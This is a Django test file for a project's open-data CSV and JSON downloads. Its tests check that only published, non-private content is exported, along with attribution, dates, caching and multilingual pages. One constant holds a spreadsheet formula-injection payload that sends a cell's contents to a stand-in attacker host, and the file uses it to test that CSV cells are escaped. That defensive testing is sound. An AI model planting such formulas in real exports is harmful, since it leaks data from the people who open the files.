"""The open data at /data/: what the files hold (published content only, nothing private), how
they are written (CSV that spreadsheets open safely, JSON), the dictionary they share, their
dates, and the page that lists them."""

import csv
import datetime
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from actions.models import Action
from opendata.downloads.datasets import DATASETS
from reflections.models import Reflection
from roundtables.models import RoundTable

from .factories import (
    ActionFactory,
    ActivityFactory,
    FindingFactory,
    InstitutionFactory,
    OutcomeFactory,
    ParticipantFactory,
    ReflectionFactory,
    RegionFactory,
    RoundTableFactory,
    ThematicAreaFactory,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def rows(client, name, prefix="") -> list[dict]:
    """The rows of a dataset's CSV file, read as a spreadsheet program's CSV reader would."""
    response = client.get(f"{prefix}/data/{name}.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte order mark, for Excel
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def records(client, name) -> list[dict]:
    response = client.get(f"/data/{name}.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    return json.loads(response.content)


@pytest.fixture
def content():
    """Of each kind, one row the public sees and one it does not."""
    region = RegionFactory(slug="asia", name="Asia")
    area = ThematicAreaFactory(slug="labour", name="Labour")
    action = ActionFactory(slug="public-action", region=region, thematic_area=area)
    action.requesting_institutions.add(InstitutionFactory(name="Ministry of Labour"))
    draft_action = ActionFactory(slug="draft-action", title="DRAFT action", is_published=False)
    ActivityFactory(action=action, number=1, title="Public workshop")
    ActivityFactory(action=draft_action, number=1, title="DRAFT workshop")
    outcome = OutcomeFactory(country="PH", code="public-outcome", title="Public outcome")
    outcome.actions.set([action, draft_action])
    draft_outcome = OutcomeFactory(code="draft-outcome", title="DRAFT outcome", is_published=False)
    held = RoundTableFactory(
        slug="bangkok-2018", region=region, countries=["TH", "PH"], report="The report."
    )
    held.thematic_areas.add(area)
    held.reported_outcomes.add(outcome, draft_outcome)
    draft = RoundTableFactory(slug="draft-2019", title="DRAFT round-table", is_published=False)
    FindingFactory(roundtable=held, slug="public-finding", countries=["PH"])
    FindingFactory(roundtable=held, slug="draft-finding", title="DRAFT", is_published=False)
    FindingFactory(roundtable=draft, slug="finding-of-a-draft", title="DRAFT finding")
    approved = ReflectionFactory(
        participant=ParticipantFactory(
            roundtable=held, name="Maria Santos", email="maria@example.org", country="PH"
        ),
        status=Reflection.Status.APPROVED,
        attribution="named",
        meaning="ORIGINAL words, before the moderator's redaction.",
        public_meaning="Redacted words.",
        decision_reason="MODERATOR's note",
        decided_at=timezone.now(),
    )
    approved.related_actions.set([action, draft_action])
    ReflectionFactory(
        participant=ParticipantFactory(roundtable=held, email="someone@example.org"),
        status=Reflection.Status.SUBMITTED,
        meaning="UNAPPROVED words",
    )
    ReflectionFactory(
        participant=ParticipantFactory(roundtable=draft, email="other@example.org"),
        status=Reflection.Status.APPROVED,
        meaning="APPROVED words at a DRAFT round-table",
    )
    return {"action": action, "outcome": outcome, "held": held, "reflection": approved}


def test_each_file_holds_the_published_rows_only(client, content):
    assert [row["slug"] for row in rows(client, "roundtables")] == ["bangkok-2018"]
    assert [row["slug"] for row in rows(client, "actions")] == ["public-action"]
    assert [(row["action"], row["number"]) for row in rows(client, "activities")] == [
        ("public-action", "1")
    ]
    assert [(row["country"], row["code"]) for row in rows(client, "outcomes")] == [
        ("PH", "public-outcome")
    ]
    assert [row["slug"] for row in rows(client, "findings")] == ["public-finding"]
    assert [row["id"] for row in rows(client, "reflections")] == [str(content["reflection"].pk)]
    assert [
        (row["roundtable"], row["country"]) for row in rows(client, "roundtable-countries")
    ] == [
        ("bangkok-2018", "PH"),
        ("bangkok-2018", "TH"),
    ]
    assert "asia" in [row["slug"] for row in rows(client, "regions")]
    assert "labour" in [row["slug"] for row in rows(client, "thematic-areas")]


def test_links_to_drafts_are_left_out(client, content):
    (outcome,) = rows(client, "outcomes")
    assert outcome["actions"] == "public-action"
    assert outcome["reported_at"] == "bangkok-2018"
    (reflection,) = rows(client, "reflections")
    assert reflection["related_actions"] == "public-action"
    (roundtable,) = rows(client, "roundtables")
    assert roundtable["results"] == "1"  # the published outcome, not the draft
    counts = {row["country"]: row["results"] for row in rows(client, "roundtable-countries")}
    assert counts == {"PH": "1", "TH": "0"}


def test_nothing_private_or_unpublished_leaks(client, content):
    every_file = b"".join(
        client.get(f"/data/{name}.{format}").content
        for name in DATASETS
        for format in ("csv", "json")
    ).decode("utf-8-sig")
    assert "@" not in every_file  # no e-mail address
    for hidden in ("DRAFT", "UNAPPROVED", "ORIGINAL", "MODERATOR"):
        assert hidden not in every_file, hidden
    assert "Redacted words." in every_file


def test_a_reflection_carries_the_attribution_its_author_chose(client, content):
    participant = content["reflection"].participant
    (named,) = records(client, "reflections")
    assert named["attribution"] == "named"
    assert (named["author_name"], named["author_position"], named["author_country"]) == (
        "Maria Santos",
        "Director",
        "PH",
    )
    assert named["author_role"] is None
    assert named["meaning"] == "Redacted words."
    assert named["engagement"] == "We asked for support."  # not redacted: the author's words
    assert named["url"].endswith(
        f"/roundtables/bangkok-2018/#reflection-{content['reflection'].pk}"
    )

    Reflection.objects.filter(pk=content["reflection"].pk).update(attribution="role")
    (by_role,) = records(client, "reflections")
    assert (by_role["author_name"], by_role["author_role"], by_role["author_country"]) == (
        None,
        "delegate",
        "PH",
    )
    Reflection.objects.filter(pk=content["reflection"].pk).update(attribution="anonymous")
    (anonymous,) = records(client, "reflections")
    credit = {key: value for key, value in anonymous.items() if key.startswith("author_")}
    assert set(credit.values()) == {None}
    assert participant.name not in json.dumps(anonymous)


def test_no_csv_cell_would_run_as_a_formula(client, content):
    action = content["action"]
    action.title = FORMULA
    action.summary = "@SUM(1+1)"
    action.save()
    RoundTable.objects.filter(pk=content["held"].pk).update(focus="-1+2", longitude=-99.1332)
    for name in DATASETS:
        for row in csv.reader(io.StringIO(client.get(f"/data/{name}.csv").content.decode())):
            for cell in row:
                starts_a_formula = cell[:1] in ("=", "+", "-", "@")
                assert not starts_a_formula or re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
    (action_row,) = rows(client, "actions")
    assert action_row["title_en"] == "'" + FORMULA
    assert action_row["summary_en"] == "'@SUM(1+1)"
    (roundtable,) = rows(client, "roundtables")
    assert roundtable["longitude"] == "-99.1332"  # a number stays a number
    # The JSON files are read by programs, not spreadsheets: the text as it is.
    assert records(client, "actions")[0]["title_en"] == FORMULA


def test_a_text_has_a_column_per_language_and_lists_their_items(client, content):
    action = content["action"]
    action.title_fr, action.countries = "Action publique", ["TH", "LA"]
    action.save()
    (row,) = rows(client, "actions")
    assert (row["title_en"], row["title_fr"], row["title_es"]) == (
        action.title,
        "Action publique",
        "",
    )
    assert row["countries"] == "LA,TH"
    assert row["requesting_institutions"] == "Ministry of Labour (INST)"
    assert row["start_month"] == "2015-01" and row["end_month"] == "2016-06"
    (record,) = records(client, "actions")
    assert record["title_es"] is None  # not translated
    assert record["countries"] == ["LA", "TH"]


def test_a_roundtable_gives_only_the_dates_that_are_known(client, content):
    (exact,) = rows(client, "roundtables")
    assert (exact["start_date"], exact["end_date"], exact["start_month"]) == (
        "2018-03-05",
        "2018-03-06",
        "2018-03",
    )
    RoundTable.objects.filter(pk=content["held"].pk).update(date_precision="month")
    (month_only,) = rows(client, "roundtables")
    assert (month_only["start_date"], month_only["end_date"], month_only["start_month"]) == (
        "",
        "",
        "2018-03",
    )


def test_the_files_share_one_dictionary(client, content):
    package = client.get("/data/datapackage.json").json()
    assert package["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    tables = {resource["name"]: resource for resource in package["resources"]}
    for name in DATASETS:
        fields = [field["name"] for field in tables[name]["schema"]["fields"]]
        header = next(
            csv.reader(io.StringIO(client.get(f"/data/{name}.csv").content.decode("utf-8-sig")))
        )
        assert header == fields, name
        assert tables[name]["path"] == f"http://testserver/data/{name}.csv"
        assert tables[f"{name}-json"]["path"] == f"http://testserver/data/{name}.json"
        for record in records(client, name):
            assert list(record) == fields, name
    status = next(f for f in tables["roundtables"]["schema"]["fields"] if f["name"] == "status")
    assert status["constraints"]["enum"] == ["planned", "held", "cancelled"]
    assert {"value": "held", "label": "Held"} in status["categories"]
    assert {"fields": ["region"], "reference": {"resource": "regions", "fields": ["slug"]}} in (
        tables["roundtables"]["schema"]["foreignKeys"]
    )


def test_the_dictionary_and_the_links_are_in_the_language_of_the_address(client, content):
    package = client.get("/fr/data/datapackage.json").json()
    (roundtables,) = [r for r in package["resources"] if r["name"] == "roundtables"]
    (status,) = [f for f in roundtables["schema"]["fields"] if f["name"] == "status"]
    assert {"value": "held", "label": "Tenue"} in status["categories"]
    assert rows(client, "roundtables", prefix="/fr")[0]["url"] == (
        "http://testserver/fr/roundtables/bangkok-2018/"
    )
    # The data themselves are the same: every language has its own column.
    assert rows(client, "roundtables", prefix="/es")[0]["title_en"] == content["held"].title


def test_a_file_is_dated_by_the_last_change_of_its_published_rows(client, content):
    long_ago = timezone.make_aware(datetime.datetime(2020, 1, 2, 3, 4, 5))
    later = long_ago + datetime.timedelta(days=30)
    Action.objects.update(updated_at=long_ago)
    Action.objects.filter(slug="public-action").update(updated_at=later)
    response = client.get("/data/actions.csv")
    assert response["Last-Modified"] == "Sat, 01 Feb 2020 03:04:05 GMT"
    assert response["ETag"]
    # Unpublishing a row changes the file: its date moves.
    unpublished = later + datetime.timedelta(days=1)
    Action.objects.filter(slug="public-action").update(is_published=False, updated_at=unpublished)
    assert client.get("/data/actions.csv")["Last-Modified"] == "Sun, 02 Feb 2020 03:04:05 GMT"
    # A draft never published does not date the file.
    Action.objects.filter(slug="draft-action").update(
        updated_at=unpublished + datetime.timedelta(days=9)
    )
    assert client.get("/data/actions.csv")["Last-Modified"] == "Sun, 02 Feb 2020 03:04:05 GMT"


def test_an_unchanged_file_is_not_sent_again(client, content):
    first = client.get("/data/findings.json")
    again = client.get("/data/findings.json", headers={"if-none-match": first["ETag"]})
    assert again.status_code == 304 and again.content == b""
    since = client.get("/data/findings.json", headers={"if-modified-since": first["Last-Modified"]})
    assert since.status_code == 304
    FindingFactory(roundtable=content["held"], slug="new-finding")
    changed = client.get("/data/findings.json", headers={"if-none-match": first["ETag"]})
    assert changed.status_code == 200
    assert "new-finding" in changed.content.decode()


def test_the_files_say_where_their_dictionary_and_licence_are(client, content):
    response = client.get("/data/outcomes.json")
    assert '<http://testserver/data/datapackage.json>; rel="describedby"' in response["Link"]
    assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in response["Link"]
    csv_file = client.get("/data/outcomes.csv")
    assert csv_file["Content-Disposition"] == 'attachment; filename="mieux-outcomes.csv"'


def test_an_unknown_dataset_is_not_found(client):
    assert client.get("/data/participants.csv").status_code == 404
    assert client.get("/data/roundtables.xml").status_code == 404


def test_the_page_lists_each_dataset_with_its_rows_date_and_dictionary(client, content):
    Action.objects.update(updated_at=timezone.make_aware(datetime.datetime(2020, 2, 1)))
    response = client.get("/data/")
    assert response.status_code == 200
    text = response.content.decode()
    for name, dataset in DATASETS.items():
        assert f'href="/data/{name}.csv"' in text
        assert f'href="/data/{name}.json"' in text
        assert f'id="dataset-{name}"' in text
        for field in dataset.fields:
            assert f'<code class="d-block">{field.name}</code>' in text
    assert '<time datetime="2020-02-01T00:00:00+00:00">1 February 2020</time>' in text
    assert 'href="https://creativecommons.org/licenses/by/4.0/" rel="license"' in text
    assert "<code>held</code>: Held" in text  # the allowed values, with their meanings
    assert "funded by the European Union" in text


def test_the_page_describes_the_datasets_for_search_engines(client, content):
    text = client.get("/data/").content.decode()
    (block,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S)
    catalogue = json.loads(block)
    assert catalogue["@type"] == "DataCatalog"
    assert catalogue["license"] == "https://creativecommons.org/licenses/by/4.0/"
    datasets = {dataset["identifier"]: dataset for dataset in catalogue["dataset"]}
    assert set(datasets) == set(DATASETS)
    actions = datasets["actions"]
    assert actions["creator"]["alternateName"] == "ICMPD"
    assert actions["funder"]["name"] == "European Union"
    assert actions["inLanguage"] == ["en", "fr", "es"]
    assert "dateModified" in actions and "dateModified" not in datasets["regions"]
    assert [d["contentUrl"] for d in actions["distribution"]] == [
        "http://testserver/data/actions.csv",
        "http://testserver/data/actions.json",
    ]


def test_the_page_exists_in_each_language(client, content):
    for prefix in ("", "/fr", "/es"):
        response = client.get(f"{prefix}/data/")
        assert response.status_code == 200
        assert f'href="{prefix}/data/roundtables.csv"' in response.content.decode()


def test_the_files_are_cached_until_the_content_changes(
    client, demo, page_cache, django_capture_on_commit_callbacks
):
    urls = ("/data/", "/data/actions.csv", "/fr/data/actions.json", "/roundtables/calendar.ics")
    for url in urls:
        client.get(url)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        assert len(queries.captured_queries) == 0, url
    with django_capture_on_commit_callbacks(execute=True):
        action = Action.objects.get(slug="mexico-ii")
        action.title = "Mexico II (a new title)"
        action.save()
    assert "Mexico II (a new title)" in client.get("/data/actions.csv").content.decode()
